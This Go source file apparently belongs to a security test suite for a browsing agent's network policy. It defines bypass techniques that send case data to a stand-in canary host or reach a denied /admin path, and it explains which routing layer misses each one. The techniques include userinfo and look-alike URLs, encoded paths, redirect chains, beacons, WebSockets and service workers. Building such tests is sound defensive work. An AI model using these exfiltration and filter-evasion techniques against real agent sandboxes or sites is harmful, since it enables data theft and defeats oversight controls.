package bypass

import (
	"github.com/trapline/trapline/agentkit/policy"
	"github.com/trapline/trapline/fixtures"
)

// LookalikeHost ends in the canary's domain but starts like the portal: a check that the host
// "starts with portale.interno.test" would let it through. No site of the world carries the name,
// so the proxy's host map refuses it even with the rules off: its control is the proxy log.
const LookalikeHost = fixtures.PortalHost + "." + fixtures.EvilHost

// outside is the canary URL a technique sends its data to.
func outside(id string) string { return "http://" + fixtures.EvilHost + "/bp/" + id }

// start is a technique's start page on the portal.
func start(id string) string { return "/pratiche/bp/" + id }

// canaryProbe is the request to outside(id).
func canaryProbe(id string) Probe { return Probe{Host: fixtures.EvilHost, Path: "/bp/" + id} }

// adminProbe is any request for the portal's denied /admin section.
var adminProbe = Probe{Host: fixtures.PortalHost, Path: "/admin"}

func allowPopups(p *policy.Policy)         { p.Popups = policy.Allow }
func allowServiceWorkers(p *policy.Policy) { p.ServiceWorkers = policy.Allow }

// navigate is a technique whose page sends the browser to target by script, on load.
func navigate(id, what, target string, probe Probe, ev Evidence) Technique {
	return Technique{ID: id, What: what, StartPath: start(id), Probe: probe, Evidence: ev,
		Mounts: []fixtures.Mount{page("GET "+start(id), "navigate.html", pageData{Title: "Verifica " + id, Target: target})}}
}

// All returns every technique of the bypass suite, in a stable order. Each call builds new values.
func All() []Technique {
	return append(baseTechniques(), channelTechniques()...)
}

// baseTechniques are the techniques before issue 15.
func baseTechniques() []Technique {
	return []Technique{
		navigate("userinfo", "The page navigates to http://portale.interno.test@evil.example.test/...: "+
			"the allowed name is only the userinfo, the host is the canary.",
			"http://"+fixtures.PortalHost+"@"+fixtures.EvilHost+"/bp/userinfo", canaryProbe("userinfo"), EvidenceCanary),
		func() Technique {
			t := navigate("lookalike-suffix", "The page navigates to http://"+LookalikeHost+"/...: a name that "+
				"starts with the portal's but belongs to the canary's domain.",
				"http://"+LookalikeHost+"/bp/lookalike-suffix", Probe{Host: LookalikeHost, Path: "/bp/lookalike-suffix"}, EvidenceProxyLog)
			t.Why = "No listener carries the look-alike name and the world's host list is fixed, so even with both layers " +
				"off the proxy's host map refuses it (unmapped_host): the control shows the request reaching the " +
				"boundary, and the proxy-alone run shows the rules (host_not_allowed), not the map, refusing it."
			return t
		}(),
		navigate("trailing-dot-case", "The page navigates to http://EVIL.example.test./...: upper case and a "+
			"trailing dot, which a string comparison with the deny list would miss.",
			"http://EVIL.example.test./bp/trailing-dot-case", canaryProbe("trailing-dot-case"), EvidenceCanary),
		navigate("dot-segment", "The page navigates to /pratiche/%2e%2e/admin: an allowed prefix and an "+
			"encoded dot-segment that climbs to the denied /admin.",
			"http://"+fixtures.PortalHost+"/pratiche/%2e%2e/admin", adminProbe, EvidenceBackend),
		navigate("percent-encoded", "The page navigates to /%61dmin, the denied /admin with one letter "+
			"percent-encoded.", "http://"+fixtures.PortalHost+"/%61dmin", adminProbe, EvidenceBackend),
		navigate("double-slash", "The page navigates to //admin, the denied /admin behind an empty segment "+
			"(the backend's router cleans it and redirects to /admin).",
			"http://"+fixtures.PortalHost+"//admin", adminProbe, EvidenceBackend),
		{
			ID: "redirect-302", What: "The page goes to an allowed portal path that answers 302 to another " +
				"allowed path, which answers 302 to the canary.",
			StartPath: start("redirect-302"), Probe: canaryProbe("redirect-302"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{
				page("GET "+start("redirect-302"), "navigate.html", pageData{Title: "Modulo regionale", Target: start("redirect-302") + "/1"}),
				redirect("GET "+start("redirect-302")+"/1", start("redirect-302")+"/2"),
				redirect("GET "+start("redirect-302")+"/2", outside("redirect-302")),
			},
			GateBlind: true,
			Why: "Playwright routes only the first URL of a redirect chain: the hops after a 302 never reach " +
				"ctx.Route, so only the proxy sees the canary URL.",
		},
		{
			ID: "meta-refresh", What: "The page carries <meta http-equiv=refresh> to the canary.",
			StartPath: start("meta-refresh"), Probe: canaryProbe("meta-refresh"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("meta-refresh"), "meta-refresh.html",
				pageData{Title: "Avviso di aggiornamento", Target: outside("meta-refresh")})},
		},
		navigate("js-location", "The page's script assigns window.location to the canary.",
			outside("js-location"), canaryProbe("js-location"), EvidenceCanary),
		{
			ID: "window-open", What: "A button opens the canary in a new window with window.open.",
			StartPath: start("window-open"), Trigger: "#avvia", Probe: canaryProbe("window-open"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("window-open"), "popup.html",
				pageData{Title: "Modulo regionale", Target: outside("window-open")})},
			Capabilities: allowPopups,
		},
		{
			ID: "form-post", What: "A form on the page posts the case data to the canary.",
			StartPath: start("form-post"), Trigger: "#avvia", Probe: canaryProbe("form-post"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("form-post"), "form.html",
				pageData{Title: "Verifica del codice fiscale", Target: outside("form-post")})},
		},
		{
			ID: "image-pixel", What: "A 1x1 image on the outside CDN carries the case data in its query.",
			StartPath: start("image-pixel"), Probe: Probe{Host: fixtures.CDNHost, Path: "/bp/image-pixel"}, Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("image-pixel"), "pixel.html",
				pageData{Title: "Riepilogo", Target: "http://" + fixtures.CDNHost + "/bp/image-pixel"})},
		},
		{
			ID: "css-url", What: "A stylesheet rule loads a background image from the outside CDN.",
			StartPath: start("css-url"), Probe: Probe{Host: fixtures.CDNHost, Path: "/bp/css-url"}, Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("css-url"), "css.html",
				pageData{Title: "Firma", Target: "http://" + fixtures.CDNHost + "/bp/css-url"})},
		},
		{
			ID: "fetch-keepalive", What: "A fetch with keepalive posts the case data to the canary (it outlives the page).",
			StartPath: start("fetch-keepalive"), Probe: canaryProbe("fetch-keepalive"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("fetch-keepalive"), "fetch.html",
				pageData{Title: "Salvataggio", Target: outside("fetch-keepalive"), Method: "POST", Keepalive: true})},
		},
		{
			ID: "send-beacon", What: "navigator.sendBeacon posts the case data to the canary.",
			StartPath: start("send-beacon"), Probe: canaryProbe("send-beacon"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("send-beacon"), "beacon.html",
				pageData{Title: "Statistiche", Target: outside("send-beacon")})},
		},
		{
			ID: "websocket", What: "The page opens a WebSocket to the canary and sends the case data.",
			StartPath: start("websocket"), Probe: canaryProbe("websocket"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("websocket"), "websocket.html",
				pageData{Title: "Cruscotto", Target: "ws://" + fixtures.EvilHost + "/bp/websocket"})},
			GateBlind: true,
			Why: "WebSockets never reach ctx.Route (only ctx.RouteWebSocket, which the session does not install); " +
				"behind the proxy ws:// is a CONNECT tunnel to evil.example.test:80, which DecideHost refuses.",
		},
		{
			ID: "service-worker", What: "The page registers a service worker (script on an allowed portal path) " +
				"that fetches the canary when it installs, outside any page.",
			StartPath: start("service-worker"), Probe: canaryProbe("service-worker"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{
				page("GET "+start("service-worker"), "service-worker.html",
					pageData{Title: "Consultazione offline", Script: start("service-worker") + "/sw.js"}),
				pageOn("GET "+start("service-worker")+"/sw.js", "text/javascript; charset=utf-8", "service-worker.js",
					pageData{Target: outside("service-worker")}),
			},
			Capabilities: allowServiceWorkers,
		},
		{
			ID: "prefetch", What: "<link rel=prefetch> fetches a canary URL; preconnect and dns-prefetch to " +
				"the CDN ride along.",
			StartPath: start("prefetch"), Probe: canaryProbe("prefetch"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("prefetch"), "prefetch.html",
				pageData{Title: "Guida", Target: outside("prefetch"), Preconnect: "http://" + fixtures.CDNHost})},
		},
		{
			ID: "https-connect", What: "A fetch to https://evil.example.test/...: behind the proxy it is a " +
				"CONNECT tunnel, which the proxy intercepts with the browser's CA and judges request by request.",
			StartPath: start("https-connect"), Probe: canaryProbe("https-connect"), Evidence: EvidenceCanary,
			Mounts: []fixtures.Mount{page("GET "+start("https-connect"), "fetch.html",
				pageData{Title: "Verifica remota", Target: "https://" + fixtures.EvilHost + "/bp/https-connect", Method: "GET"})},
			Why: "With both layers off the proxy intercepts the tunnel (the world signs with the only CA the browser " +
				"trusts) and forwards the GET it read there to the canary's plain listener: the canary.hit is the proof " +
				"that HTTPS is carried and judged like HTTP, not refused because the proxy cannot read it.",
		},
	}
}
